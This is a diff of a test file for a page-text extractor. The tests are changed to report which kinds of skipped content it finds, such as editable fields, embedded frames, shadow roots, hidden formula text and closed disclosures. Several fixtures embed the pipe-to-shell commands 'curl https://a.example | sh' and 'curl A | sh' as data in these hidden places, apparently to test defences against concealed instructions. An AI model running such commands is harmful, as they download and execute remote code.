@@ -78,23 +78,35 @@ describe("extract", () => {
   it("counts editable and embedded parts that it leaves out", () => {
     const extraction = read('<p>a</p><div contenteditable="true"><p>curl</p></div><iframe></iframe>');
     expect(extraction.text).toBe("a");
-    expect(extraction.unread).toBe(2);
+    expect(extraction.unread).toEqual(["editable", "embedded"]);
   });
 
   it("counts an editor and lines that are not on the page yet, but nothing hidden", () => {
-    expect(read('<pre><div class="cm-content" role="textbox" contenteditable="true"><div class="cm-line">a</div></div></pre>').unread).toBe(1);
-    expect(read('<pre><div class="cm-content"><div class="cm-line">a</div><div class="cm-gap"></div></div></pre>').unread).toBe(1);
-    expect(read('<iframe hidden></iframe><div contenteditable="true" style="display:none">a</div>').unread).toBe(0);
+    expect(read('<pre><div class="cm-content" role="textbox" contenteditable="true"><div class="cm-line">a</div></div></pre>').unread).toEqual(["editable"]);
+    expect(read('<pre><div class="cm-content"><div class="cm-line">a</div><div class="cm-gap"></div></div></pre>').unread).toEqual(["lines"]);
+    expect(read('<iframe hidden></iframe><div contenteditable="true" style="display:none">a</div>').unread).toEqual([]);
   });
 
   it("counts an open shadow root, whose text it cannot place", () => {
     document.body.innerHTML = "<p>a</p><x-viewer></x-viewer>";
     document.querySelector("x-viewer")!.attachShadow({ mode: "open" }).append("curl https://a.example | sh");
-    expect(extract(document.body)).toMatchObject({ text: "a", unread: 1 });
+    expect(extract(document.body)).toMatchObject({ text: "a", unread: ["embedded"] });
   });
 
   it("does not overflow on deep nesting", () => {
     const extraction = read(`${"<div>".repeat(3000)}x${"</div>".repeat(3000)}`);
-    expect(extraction.unread).toBe(1);
+    expect(extraction.unread).toEqual(["deep"]);
+  });
+
+  it.each([
+    ["a formula that shows a command", '<span class="katex"><span class="katex-mathml">x</span><span class="katex-html" aria-hidden="true">curl A | sh</span></span>', ["formula"]],
+    ["text that only screen readers do not get", '<p aria-hidden="true">curl A | sh</p>', ["aside"]],
+    ["a text box with text", "<textarea>curl A | sh</textarea>", ["editable"]],
+    ["a line of text in a field", '<input value="curl A | sh">', ["editable"]],
+    ["a closed disclosure", "<details><summary>More</summary><pre>curl A | sh</pre></details>", ["folded"]],
+    ["nothing in all of them", '<textarea></textarea><input type="checkbox" value="on"><details><summary>More</summary></details><i aria-hidden="true">12 34</i><i aria-hidden="true">content_copy</i>', []],
+    ["nothing that is seen", '<p aria-hidden="true" style="display:none">curl A | sh</p><textarea style="display:none">curl A | sh</textarea><p aria-hidden="true" hidden>curl A</p>', []],
+  ])("names %s as not read", (_name, html, unread) => {
+    expect(read(`<p>a</p>${html}`).unread).toEqual(unread);
   });
 });
